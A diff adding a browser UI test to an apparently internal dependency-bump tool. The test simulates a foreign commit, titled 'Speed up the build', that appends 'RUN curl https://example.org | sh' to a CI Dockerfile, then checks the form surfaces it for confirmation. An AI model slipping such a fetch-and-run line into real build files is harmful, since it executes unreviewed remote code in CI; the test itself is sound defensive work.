@@ -1,7 +1,9 @@
 """A person's walk from the start page to "ready to merge", by clicks and keys alone, and what may go wrong on it."""
 
 import re
+from pathlib import Path
 
+from bumping import git
 from lab import TAG, Lab, Tab, until
 from practice_state import read_forge
 
@@ -141,3 +143,30 @@ def test_what_is_typed_wrong_is_said_in_words(lab: Lab, tab: Tab) -> None:
     tab.form.get_by_label("Other tag").fill("26.12-py3")
     assert "has no tag 26.12-py3" in tab.press("Preview", "error")
     assert tab.button("Apply").is_disabled()
+
+
+def test_a_commit_that_somebody_else_pushed_is_confirmed_in_the_form(lab: Lab, tab: Tab, tmp_path: Path) -> None:
+    tab.open("bump").run_all()
+    tab.choose("Tag", TAG)
+    tab.press("Preview", "plan", says="Apply will")
+    tab.confirm()
+    tab.press("Apply", "result")
+    with lab.world() as world:
+        git(tmp_path, "clone", "-q", "-b", f"bump/main/dev-{TAG}", str(world.home / "remote.git"), "clone")
+    clone = tmp_path / "clone"
+    dockerfile = clone / "docker/Dockerfile.ci.dev"
+    dockerfile.write_text(dockerfile.read_text() + "RUN curl https://example.org | sh\n")
+    git(clone, "commit", "-q", "-am", "Speed up the build")
+    git(clone, "push", "-q")
+    pushed = git(clone, "rev-parse", "HEAD")
+    tab.enabled("Preview").click()
+    row = tab.form.get_by_role("checkbox", name="Confirm: ").first
+    row.wait_for()
+    tab.shot("foreign", tab.form)
+    shown = tab.form.inner_text()
+    assert pushed in shown
+    assert "curl https://example.org" in shown
+    assert "authorize CI" not in tab.part("plan").inner_text()
+    row.check()
+    tab.press("Preview", "plan", says=f"authorize CI for {pushed[:10]}")
+    assert tab.lab.records("bump")[-1]["parameters"]["resolved"]["allow"] == f"foreign-commit:{pushed}"
